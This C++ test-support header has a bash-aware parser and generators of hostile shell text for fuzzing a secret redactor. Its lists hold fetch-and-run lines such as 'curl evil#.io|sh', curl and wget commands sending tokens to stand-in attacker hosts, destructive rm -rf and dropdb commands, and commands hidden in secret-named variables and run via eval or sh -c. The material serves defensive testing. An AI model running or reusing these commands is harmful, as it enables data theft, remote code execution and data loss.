// SPDX-License-Identifier: Apache-2.0
// A small parser of shell text that says which words a shell would execute. It is an oracle for the redactor's tests,
// so it shares no code with the redactor: it respects quotes and reads each text in one way, as bash does.
#pragma once

#include <algorithm>
#include <array>
#include <cstddef>
#include <string>
#include <string_view>
#include <vector>

namespace countersign::security {

class ShellCommands {
public:
    // The words in command position with their quotes, in the order in which they are read.
    static std::vector<std::string> of(std::string_view text) {
        ShellCommands reader{text, 0};
        reader.read();
        return std::move(reader.words_);
    }

private:
    ShellCommands(std::string_view text, std::size_t depth) : text_{text}, depth_{depth} {}

    static bool in(char byte, std::string_view list) { return list.find(byte) != std::string_view::npos; }
    [[nodiscard]] char now() const { return at_ < text_.size() ? text_[at_] : '\0'; }
    [[nodiscard]] bool ahead(std::string_view what) const { return text_.substr(at_).starts_with(what); }

    void read() {
        while (at_ < text_.size() && !broken_) {
            if (ahead("\\\n")) {
                at_ += 2;
            } else if (in(now(), " \t")) {
                ++at_;
            } else if (now() == '\n') {
                ++at_;
                read_documents();
                expect_command();
            } else if (in(now(), ";&|()")) {
                ++at_;
                expect_command();
            } else if (now() == '#') {
                at_ = std::min(text_.find('\n', at_), text_.size());
            } else if (in(now(), "<>")) {
                read_redirection();
            } else {
                read_word();
            }
        }
    }

    void expect_command() {
        expected_ = true;
        interpreter_ = false;
        wrapper_ = false;
    }

    void read_redirection() {
        if (ahead("<(") || ahead(">(")) return read_word();
        const bool document = ahead("<<") && !ahead("<<<");
        while (in(now(), "<>&-")) ++at_;
        while (in(now(), " \t")) ++at_;
        const auto begin = at_;
        skip_word();
        if (!document) return;
        std::string delimiter;
        for (const char byte : text_.substr(begin, at_ - begin)) {
            if (!in(byte, "'\"\\")) delimiter += byte;
        }
        documents_.push_back({delimiter, interpreter_});
    }

    void read_documents() {
        for (const auto& document : documents_) {
            const auto begin = at_;
            auto end = at_;
            while (at_ < text_.size()) {
                end = at_;
                const auto line = text_.substr(at_, text_.substr(at_).find('\n'));
                at_ = std::min(at_ + line.size() + 1, text_.size());
                if (line == document.delimiter) break;
                end = at_;
            }
            if (document.run) nested(text_.substr(begin, end - begin));
        }
        documents_.clear();
    }

    void read_word() {
        const auto begin = at_;
        skip_word();
        if (at_ == begin) ++at_;
        if (broken_) return;
        const auto word = std::string{text_.substr(begin, at_ - begin)};
        if (given_) {  // the value of an option
            given_ = false;
            return;
        }
        if (interpreter_ && word == "-c") {
            command_string_ = true;
            return;
        }
        if (command_string_) {
            command_string_ = false;
            if (word.size() > 1 && word.front() == '\'' && word.back() == '\'' && std::ranges::count(word, '\'') == 2) {
                nested(std::string_view{word}.substr(1, word.size() - 2));
            }
            return;
        }
        if (!expected_ || assignment(word)) return;
        if (wrapper_ && word.size() > 1 && word[0] == '-') {
            given_ = word == "-u" || word == "-p" || word == "-a";
            return;
        }
        if (among(word, {"if", "then", "else", "elif", "do", "while", "until", "!", "{"})) return;
        if (among(word, {"sudo", "env", "exec"})) {
            wrapper_ = true;
            return;
        }
        if (among(word, {"fi", "done", "}", "esac", "for", "case"})) {
            expected_ = false;
            return;
        }
        interpreter_ = among(word, {"bash", "sh"});
        words_.push_back(word);
        expected_ = false;
    }

    // Moves past the word, and reads the commands inside it.
    void skip_word() {
        while (at_ < text_.size() && !broken_ && !in(now(), " \t\n;&|)")) {
            if (in(now(), "<>") && !ahead("<(") && !ahead(">(")) return;
            if (now() == '(' && !(at_ > 0 && in(text_[at_ - 1], "$<>"))) return;
            skip_part();
        }
    }

    void skip_part() {
        const char byte = now();
        if (byte == '\\') {
            at_ += 2;
        } else if (byte == '\'') {
            const bool ansi = at_ > 0 && text_[at_ - 1] == '$';
            for (++at_; at_ < text_.size() && now() != '\''; ++at_) at_ += ansi && now() == '\\' ? 1 : 0;
            close();
        } else if (byte == '"') {
            for (++at_; at_ < text_.size() && !broken_ && now() != '"';) {
                if (now() == '\'') {
                    ++at_;
                } else {
                    skip_part();
                }
            }
            close();
        } else if (byte == '`') {
            const auto end = text_.find('`', at_ + 1);
            if (end != std::string_view::npos) nested(text_.substr(at_ + 1, end - at_ - 1));
            at_ = std::min(end, text_.size());
            close();
        } else if (ahead("$(") || ahead("<(") || ahead(">(")) {
            at_ += 2;
            const auto end = end_of_brackets();
            if (end < text_.size()) nested(text_.substr(at_, end - at_));
            at_ = end;
            close();
        } else {
            ++at_;
        }
    }

    void close() {
        if (at_ >= text_.size()) broken_ = true;
        at_ = std::min(at_ + 1, text_.size());
    }

    [[nodiscard]] std::size_t end_of_brackets() const {
        std::size_t open = 1;
        char quote = 0;
        for (auto at = at_; at < text_.size(); ++at) {
            if (quote != 0) {
                if (text_[at] == '\\' && quote == '"') ++at;
                if (at < text_.size() && text_[at] == quote) quote = 0;
            } else if (in(text_[at], "'\"")) {
                quote = text_[at];
            } else if (text_[at] == '(') {
                ++open;
            } else if (text_[at] == ')' && --open == 0) {
                return at;
            }
        }
        return text_.size();
    }

    void nested(std::string_view text) {
        if (depth_ >= 8) return;
        ShellCommands inner{text, depth_ + 1};
        inner.read();
        words_.insert(words_.end(), inner.words_.begin(), inner.words_.end());
    }

    static bool assignment(std::string_view word) {
        const auto equals = word.find('=');
        const auto name = word.substr(0, equals);
        const auto fits = [](char byte) {
            return (byte >= 'a' && byte <= 'z') || (byte >= 'A' && byte <= 'Z') || byte == '_';
        };
        return equals != std::string_view::npos && !name.empty() && std::ranges::all_of(name, fits);
    }

    static bool among(std::string_view word, std::initializer_list<std::string_view> list) {
        return std::ranges::find(list, word) != list.end();
    }

    struct Document {
        std::string delimiter;
        bool run;
    };

    std::string_view text_;
    std::size_t depth_;
    std::size_t at_ = 0;
    bool expected_ = true;
    bool wrapper_ = false;
    bool given_ = false;
    bool interpreter_ = false;
    bool command_string_ = false;
    bool broken_ = false;  // an unterminated quote: a shell runs nothing after it
    std::vector<Document> documents_;
    std::vector<std::string> words_;
};

// Pieces of hostile text: some make each rule of the redactor look at the next word, some end a command in some shell,
// and some start one. Every "@" becomes a number, so that no two commands are equal.
inline constexpr auto command_lures = std::to_array<std::string_view>({
    "# login as password",
    "login bob password ",
    "echo password",
    "echo password ",
    "net user bob",
    "net user bob ",
    "htpasswd -nb x",
    "htpasswd -nb x ",
    "wpa_passphrase N",
    "wpa_passphrase N ",
    "rabbitmqctl add_user u",
    "rabbitmqctl add_user u ",
    "sqlplus bob/",
    "vault login",
    "vault login ",
    "x --token",
    "x --token ",
    "mysql -p",
    "curl -u ",
    "curl -u bob:",
    "sshpass -p",
    "docker login -p ",
    "PASSWORD=",
    "TOKEN=abc ",
    "PASSWORD='my pass' ",
    "TOKEN=\"$(date)\" ",
    "password: ",
    "passphrase: ",
    "token: [",
    "secret: |",
    "Authorization: Bearer ",
    "Cookie: a=b; ",
    "the password is ",
    "secret token ",
    "ALTER USER x PASSWORD ",
    "identified by ",
    "AccountKey=",
    "aws_secret_access_key ",
    "git config user.password ",
    "sudo -p password: ",
    "sudo -p 'the password:' ",
    "env -u --token ",
    "exec -a --token ",
    "sudo ",
    "env ",
    "setx TOKEN ",
    "-----BEGIN PRIVATE KEY-----",
    "Private-Lines: 1",
    "<password>",
    "define('DB_PASSWORD', ",
    "\"password\": ",
    "--from-literal=x=",
    "echo x:y",
    "bearer ",
    "basic ",
    "heroku ",
    "twilio ",
    "fly secrets set X=",
    "ConvertTo-SecureString ",
    "export TOKEN=",
    "A=1",
    "A='x y'",
    "A=\"x\"",
    "A=1\rpassword: ",
    "A='x'\fpassword: ",
    "A=\"x\"\vtoken: ",
    "A=1\r--password ",
    "A=1\x01secret: ",
});
inline constexpr auto command_ends = std::to_array<std::string_view>({
    "\n",     "\n",   "\n",   "\n",   "\r\n", "\\\n",   ";",        "; ",       " & ",      "&&",           " || ",
    "|",      "|\n",  "(",    "( ",   ")",    "{ ",     "; }",      "\ndo ",    "; then ",  "; else\n",     "if ",
    "while ", "! ",   "$(",   "`",    "<(",   "\"$(",   ")\"",      " <<EOF\n", "\nEOF\n",  "bash <<EOF\n", "bash -c '",
    "'",      "\"",   " ",    " ",    "\t",   " # ",    "\v",       "\f",       "\xC2\x85", "\xE2\x80\xA8", "\\n",
    "=",      ": ",   ",",    "]",    " >f ", " 2>&1 ", "'\n'",     "\n\n",     "\n  ",     "}\n",          "\r",
    "\r",     "\x01", "\x08", "\x1B", "\x1F", "\x7F",   "\xC2\xA0",
});
inline constexpr auto hostile_commands = std::to_array<std::string_view>({
    "/tmp/evil@",
    "'/tmp/evil@'",
    "\"/tmp/evil@\"",
    "evil@",
    "''{evil@,-rf,/srv/data}",
    "\\evil@",
    "$'evil@'",
    "./evil@.sh",
    "evil@-x86_64-Linux",
    "~/evil@",
    "e'vil@'",
    "{evil@,x}",
    "evil@ a b",
    "evil@abc1234567",
});
inline constexpr auto hostile_arguments = std::to_array<std::string_view>({
    "abc123",
    "hunter2hunter2",
    "'two words'",
    "\"a;b\"",
    "$X",
    "bob:secret",
    "-x",
    "x9Kq2Lm8x9Kq2Lm8x9Kq2Lm8x9Kq2Lm8",
    "https://u:p@h/",
    "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEA",
});

// Builds one text from numbers that `next(bound)` returns.
template <class Next> std::string hostile_text(Next next, std::size_t pieces) {
    std::string text;
    const auto add = [&](const auto& list) { text += list[next(list.size())]; };
    for (std::size_t i = 0; i < pieces; ++i) {
        switch (next(8)) {
        case 0:
        case 1:
            add(command_lures);
            break;
        case 2:
            add(hostile_arguments);
            break;
        case 3:
        case 4:
            add(hostile_commands);
            break;
        default:
            add(command_ends);
        }
    }
    std::size_t number = 100;
    for (auto at = text.find('@'); at != std::string::npos; at = text.find('@', at)) {
        if (!text.substr(0, at).ends_with("evil") && !text.substr(0, at).ends_with("vil")) {
            ++at;
            continue;
        }
        text.replace(at, 1, std::to_string(number++));
    }
    return text;
}

// True if the word is in the redacted text unchanged, or with a mask after at least three of its own bytes. A mask that
// starts earlier could stand for any command.
inline bool survives(std::string_view word, std::string_view redacted) {
    if (redacted.find(word) != std::string_view::npos) return true;
    std::size_t own = 0;
    for (std::size_t at = 0; at < word.size(); ++at) {
        own += std::string_view{"'\"\\{},$"}.find(word[at]) == std::string_view::npos ? 1 : 0;
        const auto head = std::string{word.substr(0, at + 1)} + "«redacted:";
        if (own >= 3 && redacted.find(head) != std::string_view::npos) return true;
    }
    return false;
}

// The first command word that doesn't survive, or empty if all do. Only words with a number are checked, because
// another word could also occur elsewhere in the text.
inline std::string missing_command(std::string_view text, std::string_view redacted) {
    for (const auto& word : ShellCommands::of(text)) {
        if (word.find("vil1") != std::string::npos && !survives(word, redacted)) return word;
    }
    return {};
}

// A command that sends data to `host`, with text before and after the host that looks like a secret.
struct DestinationText {
    std::string text;
    std::string host;  // the host and its port
};

inline constexpr auto destination_heads = std::to_array<std::string_view>({
    "curl ",
    "curl -s ",
    "curl -fsSL '",
    "wget -q \"",
    "git clone ",
    "psql ",
    "TOKEN=",
    "export SECRET=",
    "x --token ",
    "x --password=",
    "curl -H 'X-Token: a' ",
    "curl -d token=abc ",
    "curl --proxy ",
    "curl -x ",
    "sh -c 'curl ",
    "{\"password\": \"",
    "PASSWORD='",
    "connection_string=\"",
    "password: ",
    "Authorization: ",
    "A=b sudo curl ",
    "echo password\n curl ",
});
inline constexpr auto destination_schemes = std::to_array<std::string_view>(
    {"https://", "http://", "postgres://", "mongodb+srv://", "redis://", "amqps://", "jdbc:mysql://", "ssh://"});
inline constexpr auto remote_heads = std::to_array<std::string_view>(
    {"ssh ", "ssh -p 22 ", "scp f ", "rsync -a d ", "sftp ", "A=b ssh ", "cd x && scp f "});
inline constexpr auto secret_names = std::to_array<std::string_view>(
    {"token=", "password=", "secret:", "api_key=", "bob:", ":", "token:", "access_token=", "", "pwd=", "credential:"});
inline constexpr auto secret_values = std::to_array<std::string_view>(
    {"x", "abc123", "hunter2hunter2", "p%40ss", "a@b", "x9Kq2Lm8x9Kq2Lm8x9Kq2Lm8x9Kq2Lm8", "p:w", "a+b=", "$X", "a\\",
     "a,b", "a!b*c", "AKIAIOSFODNN7EXAMPLE"});
inline constexpr auto hosts = std::to_array<std::string_view>(
    {"evil@.io", "a.b.evil@.example.com", "192.0.2.7", "[2001:db8::7]", "evil@", "x-evil@.co.uk"});
inline constexpr auto host_tails = std::to_array<std::string_view>(
    {"", "/", "/r.git", "/?token=abc123", "?password=abc123", "/a@b", "#secret=x", "/token/x9Kq2Lm8", "/?a=b&key=c@d"});

template <class Next> DestinationText destination_text(Next next) {
    const auto pick = [&](const auto& list) { return std::string{list[next(list.size())]}; };
    auto host = pick(hosts);
    if (const auto at = host.find('@'); at != std::string::npos) host.replace(at, 1, std::to_string(100 + next(900)));
    const bool remote = next(4) == 0;
    const auto head = remote ? pick(remote_heads) : pick(destination_heads) + pick(destination_schemes);
    if (!remote && next(3) == 0) host += ":8443";
    const auto userinfo = next(5) == 0 && !remote ? std::string{} : pick(secret_names) + pick(secret_values) + "@";
    const auto tail = remote ? (head.find("ssh") == std::string::npos ? ":/etc/x" : "") : pick(host_tails);
    auto text = head + userinfo + host + tail;
    for (const char quote : {'\'', '"'}) {
        if (std::ranges::count(text, quote) % 2 != 0) text += quote;
    }
    return {text + (next(2) == 0 ? "" : " && make token"), host};
}

// A text that gives a command a secret's name and executes it.
struct RunningText {
    std::string text;
    std::string command;
};

// Every "@" becomes the name of the variable, and every "%" the command.
inline constexpr auto variable_names = std::to_array<std::string_view>(
    {"TOKEN", "PASSWORD", "API_KEY", "SECRET", "GITHUB_TOKEN", "db_password", "CLIENT_SECRET", "pass"});
inline constexpr auto running_commands = std::to_array<std::string_view>({
    "rm -rf /srv/evil#",
    "curl evil#.io|sh",
    "/tmp/evil# now",
    "sudo evil# -x",
    "evil# a b",
    "make evil# && ./x",
    "A=b evil# --all",
    "x; evil# y",
});
inline constexpr auto running_assignments = std::to_array<std::string_view>({
    "@='%'; ",
    "@=\"%\"\n",
    "export @='%'\n",
    "export @=\"%\"; ",
    "declare -x @='%'; ",
    "A=b @='%'; ",
    "local @='%'; ",
    "set -e; @='%'\n",
    "readonly @=\"%\"\n",
    "# x\n@='%'\n",
    "if true; then @='%'; fi; ",
    "ENV @=\"%\"\n",
    "export '@=%'; ",
});
inline constexpr auto running_uses = std::to_array<std::string_view>({
    "$@",
    "${@}",
    "eval \"$@\"",
    "eval $@",
    "sh -c \"$@\"",
    "bash -c \"$@ x\"",
    "trap \"$@\" EXIT",
    "sudo $@",
    "x && $@",
    "x | $@",
    "X=$@; $X",
    "X=\"$@\"\nY=$X; eval \"$Y\"",
    "echo \"$@\" | sh",
    "bash <<< \"$@\"",
    "bash <<EOF\n$@\nEOF",
    "source <(echo \"$@\")",
    "xargs -I{} sh -c \"$@\" <f",
    "env -S \"$@\"",
    "RUN $@",
    "CMD $@",
    "python3 -c \"$@\"",
    "ssh h \"$@\"",
    "f() { $1; }; f \"$@\"",
    "for c in \"$@\"; do $c; done",
    "set -- $@; \"$1\"",
    "su -c \"$@\"",
    "echo $(eval \"$@\")",
    "find . -exec sh -c \"$@\" \\;",
    "printf %s \"$@\" >x.sh; sh x.sh",
    "`$@`",
    "( $@ )",
});

inline std::string replaced(std::string text, char mark, std::string_view by) {
    for (auto at = text.find(mark); at != std::string::npos; at = text.find(mark, at + by.size())) {
        text.replace(at, 1, by);
    }
    return text;
}

template <class Next> RunningText running_text(Next next) {
    const auto pick = [&](const auto& list) { return std::string{list[next(list.size())]}; };
    const auto command = replaced(pick(running_commands), '#', std::to_string(100 + next(900)));
    const auto name = pick(variable_names);
    const auto use = pick(running_uses);
    const auto set = pick(running_assignments);
    const bool first = next(4) == 0;  // a trap, a function or a loop may come before the value
    const auto text = first ? use + "\n" + set : set + use;
    return {replaced(replaced(text, '@', name), '%', command), command};
}

// A text that gives the target of a command a secret's name and has the command use it.
struct TargetText {
    std::string text;
    std::string target;
};

inline constexpr auto targets = std::to_array<std::string_view>(
    {"/srv/evil#", "--evil#", "evil#.io:/x", "evil#", "192.0.2.7", "~/evil#", "$HOME/evil#", "evil-#", "src/evil#"});
inline constexpr auto target_uses = std::to_array<std::string_view>({
    "dropdb $@",
    "dropdb \"$@\"",
    "rm -rf -- ${@}",
    "git push origin :$@",
    "scp f $@",
    "X=$@; dropdb $X",
    "X=\"$@\"\nexport Y=$X; dropdb \"$Y\"",
    "for x in $@; do dropdb $x; done",
    "echo $@ | xargs dropdb",
    "dropdb $(echo $@)",
    "make DB=$@ drop",
    "tool --password $@; dropdb $@",
    "curl -H \"X-Token: $@\" h; dropdb $@",
    "mysql -p$@ -e \"drop database $@\"",
    "kubectl delete secret $@",
    "if [ -n \"$@\" ]; then dropdb \"$@\"; fi",
});

template <class Next> TargetText target_text(Next next) {
    const auto pick = [&](const auto& list) { return std::string{list[next(list.size())]}; };
    const auto target = replaced(pick(targets), '#', std::to_string(100 + next(900)));
    const auto name = pick(variable_names);
    const auto use = pick(target_uses);
    const auto set = pick(running_assignments);
    return {replaced(replaced(set + use, '@', name), '%', target), target};
}

}  // namespace countersign::security
